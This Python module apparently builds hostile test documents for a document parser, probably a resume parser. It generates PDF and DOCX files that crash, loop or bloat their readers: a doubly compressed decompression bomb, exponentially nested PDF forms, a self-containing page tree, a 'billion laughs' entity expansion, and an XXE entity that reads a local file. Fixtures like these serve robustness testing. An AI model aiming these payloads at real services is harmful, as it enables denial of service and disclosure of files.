"""Documents that crash, loop or swell their readers, made here: small files with a large effect."""

import io
import zipfile
import zlib

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="word/document.xml"/></Relationships>'
)
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def pdf(*objects: bytes) -> bytes:
    """Return a PDF of these objects, numbered from 1, the first of them its catalog."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    size = len(objects) + 1
    trailer = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (size, len(out))
    return bytes(out) + b"xref\n0 %d\n0000000000 65535 f \n" % size + table + trailer


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def page_with(contents: bytes, *more: bytes, resources: bytes = b"") -> bytes:
    """Return a PDF of one page with these contents; further objects are numbered from 5."""
    font = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << %s %s >> >>"
    pages = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", pages, page % (font, resources), contents, *more)


def twice_deflated_pdf(megabytes: int = 200) -> bytes:
    """Inflates in two steps to that many megabytes of blanks."""
    squeezed = zlib.compressobj(9)
    once = b"".join(squeezed.compress(b" " * 1_000_000) for _ in range(megabytes)) + squeezed.flush()
    return page_with(stream(zlib.compress(once, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def doubling_pdf(depth: int = 24) -> bytes:
    """Draws one word two to the power of `depth` times, through forms that each draw the next one twice."""
    kind = b"/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << %s >>"
    font = b"/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>"
    forms = [stream(b"/X Do /X Do", kind % (b"/XObject << /X %d 0 R >>" % (5 + number))) for number in range(1, depth)]
    last = stream(b"BT /F1 9 Tf 72 700 Td (engineer) Tj ET", kind % font)
    return page_with(stream(b"/X Do"), *forms, last, resources=b"/XObject << /X 5 0 R >>")


def looping_pages_pdf() -> bytes:
    """Its tree of pages contains itself."""
    return pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>")


def docx(body: bytes, prologue: bytes = b'<?xml version="1.0"?>') -> bytes:
    """Return a Word file with that XML inside its body."""
    out = io.BytesIO()
    document = b'<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>' % (WORD.encode(), body)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELATIONS)
        archive.writestr("word/document.xml", prologue + document)
    return out.getvalue()


def swelling_docx(megabytes: int = 60) -> bytes:
    """One run of text that long."""
    return docx(b"<w:p><w:r><w:t>" + b"a" * (megabytes * 1_000_000) + b"</w:t></w:r></w:p>")


def laughing_docx() -> bytes:
    """Entities that multiply tenfold, ten times over."""
    tenfold = (b'<!ENTITY l%d "%s">' % (level, b"&l%d;" % (level - 1) * 10) for level in range(1, 11))
    prologue = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "lol">' + b"".join(tenfold) + b"]>"
    return docx(b"<w:p><w:r><w:t>&l10;</w:t></w:r></w:p>", prologue)


def peeping_docx(path: str) -> bytes:
    """An entity that names a file of the machine that reads it."""
    prologue = b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY peep SYSTEM "file://%s">]>' % path.encode()
    return docx(b"<w:p><w:r><w:t>Engineer &peep;</w:t></w:r></w:p>", prologue)


def mislabelled_zip() -> bytes:
    """A zip of something else."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "not a resume")
    return out.getvalue()


def binary_text() -> bytes:
    """Every byte there is, over and over, with NULs."""
    return bytes(range(256)) * 2000
